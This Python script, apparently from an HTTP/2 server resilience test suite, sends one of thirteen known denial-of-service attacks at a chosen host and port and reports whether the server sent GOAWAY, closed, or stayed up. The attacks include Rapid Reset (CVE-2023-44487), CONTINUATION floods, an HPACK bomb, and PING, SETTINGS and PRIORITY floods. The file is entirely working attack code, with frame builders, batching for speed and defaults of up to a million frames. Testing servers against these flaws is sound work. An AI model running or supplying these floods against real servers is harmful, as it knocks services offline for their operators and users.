"""Abuses an HTTP/2 server in one of the known ways, and tells how that ended.

usage: h2_hostile.py HOST:PORT ABUSE [--proxy PORT] [--ca FILE] [--count N]

Prints one line of JSON: how many frames were sent, and how the connection ended: a GOAWAY's code, "closed", or null
while it still answers. The one that only waits prints "ready", and stays until it is killed.
"""

import select
import ssl
import threading
import time

from h2_wire import *

PATIENCE = 60  # seconds


class Turns:
    """A socket that one thread reads while another writes: both use one TLS session, so they take turns."""

    def __init__(self, socket, patience):
        self.socket, self.patience, self.lock = socket, patience, threading.Lock()
        socket.setblocking(False)

    def settimeout(self, seconds):
        self.patience = seconds

    def recv(self, count):
        return self.turn(lambda: self.socket.recv(count), reads=True)

    def sendall(self, data):
        rest = memoryview(data)
        while rest:
            rest = rest[self.turn(lambda: self.socket.send(rest), reads=False):]

    def turn(self, act, reads):
        deadline = time.monotonic() + self.patience
        while True:
            try:
                with self.lock:
                    return act()
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            left = deadline - time.monotonic()
            waits = ([self.socket], []) if reads else ([], [self.socket])
            if left <= 0 or not any(select.select(*waits, [], left)):
                raise TimeoutError("the server was silent")


class Abuse:
    """A connection that is abused; what the server says is read meanwhile, unless it is not to be."""

    def __init__(self, way, reads=True, settings=None):
        self.connection = Connection(way, settings, timeout=PATIENCE)
        self.connection.socket = Turns(self.connection.socket, PATIENCE)
        self.sent, self.said, self.closed = 0, None, threading.Event()
        self.answered = threading.Event()
        self.reader = threading.Thread(target=self.read, daemon=True)
        if reads:
            self.reader.start()

    def read(self):
        try:
            while got := self.connection.next():
                if got.kind == GOAWAY and self.said in (None, "NO_ERROR"):
                    self.said = error_name(got.payload)
                if got.kind == PING and got.payload == b"stillon?":
                    self.answered.set()
        except (OSError, ValueError):
            pass
        self.closed.set()

    def flood(self, pieces, frames=1):
        """Sends pieces until there are no more, or the server has had enough."""
        try:
            for piece in pieces:
                if self.closed.is_set() or self.said:
                    return
                self.connection.raw(piece)
                self.sent += frames
        except OSError:
            pass

    def end(self):
        """How the connection ended; a PING that is answered shows that it has not."""
        if not self.reader.is_alive() and not self.closed.is_set():
            self.reader.start()
        self.flood([frame(PING, 0, 0, b"stillon?")], 0)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not (self.said or self.closed.is_set() or self.answered.is_set()):
            self.closed.wait(0.01)
        report(sent=self.sent, ended=self.said or ("closed" if self.closed.is_set() else None))


def requests(count, flags=END_STREAM | END_HEADERS, **request):
    connection = Connection.__new__(Connection)
    connection.way = way
    head = block(connection.fields(**request))
    return (frame(HEADERS, flags, 2 * index + 1, head) for index in range(count))


def batches(pieces, size=100):
    """Pieces joined, so that the client is not what is slow."""
    batch = []
    for piece in pieces:
        batch.append(piece)
        if len(batch) == size:
            yield b"".join(batch)
            batch = []
    yield b"".join(batch)


def rapid_reset(count):
    """CVE-2023-44487: requests that are cancelled at once."""
    abuse = Abuse(way)
    pairs = (head + frame(RST_STREAM, 0, 2 * index + 1, b"\0\0\0\x08") for index, head in enumerate(requests(count)))
    abuse.flood(batches(pairs), 200)
    abuse.end()


def made_to_reset(count):
    """CVE-2025-8671: requests that the server itself must cancel, by a window that overflows."""
    abuse = Abuse(way)
    pairs = (
        head + frame(WINDOW_UPDATE, 0, 2 * index + 1, b"\x7f\xff\xff\xff")
        for index, head in enumerate(requests(count, END_HEADERS, method="POST"))
    )
    abuse.flood(batches(pairs), 200)
    abuse.end()


def continuation_flood(count):
    """CVE-2024-27983 and its like: a header block without end."""
    abuse = Abuse(way)
    part = b"".join(literal(f"x-{index}", "y" * 400) for index in range(38))
    abuse.flood(requests(1, END_STREAM))
    abuse.flood(frame(CONTINUATION, 0, 1, part) for _ in range(count))
    abuse.end()


def empty_continuations(count):
    """A header block without end that grows by nothing."""
    abuse = Abuse(way)
    abuse.flood(requests(1, END_STREAM))
    abuse.flood((frame(CONTINUATION, 0, 1) * 100 for _ in range(count // 100)), 100)
    abuse.end()


def hpack_bomb(count):
    """CVE-2016-6581: one long field, indexed, and then named again and again."""
    abuse = Abuse(way)
    fields = block(abuse.connection.fields())
    abuse.flood([frame(HEADERS, 5, 1, fields + literal("x", "y" * 4_000, 0x40))])
    abuse.flood(frame(HEADERS, 5, 2 * index + 3, fields + b"\xbe" * 15_000) for index in range(count))
    abuse.end()


def settings_flood(count):
    """CVE-2019-9515: SETTINGS that must be acknowledged, and nobody reads that."""
    abuse = Abuse(way, reads=False)
    abuse.connection.socket.settimeout(5)
    abuse.flood((frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 100 for _ in range(count // 100)), 100)
    abuse.end()


def ping_flood(count):
    """CVE-2019-9512: PINGs that must be answered, and nobody reads that."""
    abuse = Abuse(way, reads=False)
    abuse.connection.socket.settimeout(5)
    abuse.flood((frame(PING, 0, 0, b"pingping") * 100 for _ in range(count // 100)), 100)
    abuse.end()


def read_ping_flood(count):
    """PINGs by the thousand, of which every answer is read."""
    abuse = Abuse(way)
    abuse.flood((frame(PING, 0, 0, b"pingping") * 100 for _ in range(count // 100)), 100)
    abuse.end()


def empty_data(count):
    """CVE-2019-9518: DATA frames of nothing, which no window stops."""
    abuse = Abuse(way)
    abuse.flood(requests(1, END_HEADERS, method="POST"))
    abuse.flood((frame(DATA, 0, 1) * 100 for _ in range(count // 100)), 100)
    abuse.end()


def priority_flood(count):
    """CVE-2019-9513: a tree of priorities that is shuffled without end."""
    abuse = Abuse(way)
    shuffles = (
        frame(PRIORITY, 0, 2 * (index % 1_000) + 3, struct.pack("!LB", 2 * (index * 7 % 1_000) + 1_000_001, 15))
        for index in range(count)
    )
    abuse.flood(batches(shuffles), 100)
    abuse.end()


def window_flood(count):
    """WINDOW_UPDATEs by the thousand."""
    abuse = Abuse(way)
    abuse.flood(requests(1, END_HEADERS, method="POST"))
    abuse.flood((frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 100 for _ in range(count // 100)), 100)
    abuse.end()


def unknown_flood(count):
    """Frames of unknown types, which are to be ignored, by the thousand."""
    abuse = Abuse(way)
    abuse.flood((frame(0xEE, 0, 0, bytes(64)) * 100 for _ in range(count // 100)), 100)
    abuse.end()


def zero_window(count):
    """CVE-2019-9511, CVE-2019-9517: streams of long responses for which there is never room."""
    abuse = Abuse(way, settings={INITIAL_WINDOW_SIZE: 0})
    connection = abuse.connection
    deadline = time.monotonic() + 10
    while MAX_CONCURRENT_STREAMS not in connection.peer and time.monotonic() < deadline:
        time.sleep(0.001)
    count = min(count, connection.peer.get(MAX_CONCURRENT_STREAMS, count))
    abuse.flood(requests(count, path=options.path))
    report(ready=count)
    time.sleep(600)


WAYS = {
    function.__name__.replace("_", "-"): (function, count)
    for function, count in (
        (rapid_reset, 50_000), (made_to_reset, 50_000), (continuation_flood, 10_000), (empty_continuations, 1_000_000),
        (hpack_bomb, 100), (settings_flood, 1_000_000), (ping_flood, 1_000_000), (read_ping_flood, 1_000_000),
        (empty_data, 1_000_000), (priority_flood, 300_000), (window_flood, 300_000), (unknown_flood, 300_000),
        (zero_window, 1_000),
    )
}

if __name__ == "__main__":
    parser = Way.arguments(__doc__.split("\n")[0])
    parser.add_argument("abuse", choices=WAYS)
    parser.add_argument("--count", type=int)
    parser.add_argument("--path", default="/")
    options = parser.parse_args()
    way = Way.of(options)
    function, count = WAYS[options.abuse]
    function(options.count or count)
